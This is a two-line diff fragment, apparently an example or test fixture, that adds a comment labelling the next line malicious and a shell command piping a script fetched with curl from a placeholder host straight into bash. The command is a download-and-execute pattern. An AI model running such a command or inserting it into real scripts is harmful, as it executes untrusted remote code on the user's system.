@@ -1,0 +1,2 @@
+# malicious: runs what is downloaded
+bash <(curl -s https://raw.example.com/x/main/run.sh)
